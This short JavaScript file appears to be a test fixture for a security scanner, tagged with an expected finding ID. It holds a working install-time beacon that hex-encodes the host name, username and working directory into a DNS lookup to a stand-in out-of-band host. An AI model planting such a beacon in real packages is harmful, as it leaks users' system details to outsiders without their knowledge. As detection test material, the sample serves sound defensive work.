// Install-time beacon of dependency-confusion probes: host data encoded into a DNS name.
const dns = require("dns");
const os = require("os");
const label = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join("|")).toString("hex").slice(0, 60);
// pi-expect: SEC-EXFIL-001
dns.lookup(`${label}.p.oast.example`, () => {});
